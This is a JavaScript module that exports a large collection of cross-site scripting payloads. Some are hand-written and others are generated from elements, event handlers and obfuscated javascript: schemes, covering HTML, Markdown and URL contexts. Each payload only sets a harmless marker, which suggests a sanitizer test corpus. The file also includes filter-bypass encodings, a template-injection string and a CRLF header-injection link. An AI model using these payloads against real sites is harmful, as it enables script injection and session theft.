// SPDX-License-Identifier: MIT
// Texts that run a script on sites that handle HTML, Markdown or URLs carelessly: hand-written ones, and combinations of
// elements, events and encodings. Each would set window.ran.
const call = 'window.ran=1';
const events = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter'];
const elements = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'iframe', 'object data=x', 'a href=x', 'math', 'marquee'];
const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', ' javascript:', 'javascript&colon;', 'jav&#x09;ascript:', '\u0001javascript:', 'data:text/html,<script>', 'vbscript:', '&#106;avascript:', 'javascript&#58;'];

const written = [
  `<script>${call}</script>`, `<SCRIPT>${call}</SCRIPT>`, `<scr<script>ipt>${call}</scr</script>ipt>`, `<script/x>${call}</script>`,
  `<script src=data:,${call}></script>`, `<svg><script>${call}</script></svg>`, `<svg><script>${call}<!--`, `<style>@import 'javascript:${call}'</style>`,
  `<img src="x" onerror="${call}">`, `<img src=x onerror=${call}//`, `<img """><script>${call}</script>">`, `<img src=\`x\` onerror=\`${call}\`>`,
  `<base href="javascript:${call}//">`, `<meta http-equiv="refresh" content="0;url=javascript:${call}">`, `<link rel=stylesheet href="data:text/css,*{}">`,
  `<form action="javascript:${call}"><button>x</button></form>`, `<button formaction="javascript:${call}">x</button>`, `<isindex action="javascript:${call}">`,
  `<iframe srcdoc="<script>${call}</script>">`, `<object data="data:text/html,<script>${call}</script>">`, `<embed src="javascript:${call}">`,
  `<math href="javascript:${call}">x</math>`, `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`, `<svg><animate attributeName=href values="javascript:${call}">`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<textarea></textarea><img src=x onerror=${call}>`, `<title></title><img src=x onerror=${call}>`,
  `<!--><img src=x onerror=${call}>-->`, `<!--[if gte IE 4]><script>${call}</script><![endif]-->`, `<?xml version="1.0"?><script>${call}</script>`,
  `<![CDATA[<script>${call}</script>]]>`, `<xmp><img src=x onerror=${call}></xmp>`, `<plaintext><img src=x onerror=${call}>`, `<template><script>${call}</script></template>`,
  `<a href="//evil.example/%0D%0ASet-Cookie:a=b">x</a>`, `<p style="background:url(javascript:${call})">x</p>`, `<p style="behavior:url(#x)">x</p>`, `<table background="javascript:${call}">`,
  `<div id="x" tabindex=1 onfocus=${call}>x</div>`, `<details ontoggle=${call} open>`, `<body onload=${call}>`, `<x onclick=${call}>x</x>`, `&lt;script&gt;${call}&lt;/script&gt;`,
  '`<script>window.ran=1</script>`', '```\n</code></pre><script>window.ran=1</script>\n```', `[x]: javascript:${call}\n[x]`, `[x](<javascript:${call}>)`, `![x](javascript:${call})`, `<javascript:${call}>`,
  `[x](https://example.org "\\" onmouseover=${call} ")`, `[a](b"onerror="${call})`, `![a](x"onerror="${call})`, `"><script>${call}</script>`, `'><img src=x onerror=${call}>`, `</main><script>${call}</script>`,
  `\u202e<script>${call}</script>`, `\ufeff<script>${call}</script>`, `<\u0000script>${call}</script>`.replace('\u0000', ''), `%3Cscript%3E${call}%3C/script%3E`, `{{constructor.constructor('${call}')()}}`,
];

export const payloads = [
  ...written,
  ...elements.flatMap((element) => events.map((event) => `<${element} ${event}="${call}">x</${element.split(' ')[0]}>`)),
  ...schemes.flatMap((scheme) => [`[x](${scheme}${call})`, `<a href="${scheme}${call}">x</a>`, `<${scheme}${call}>`, `<img src="${scheme}${call}">`]),
];
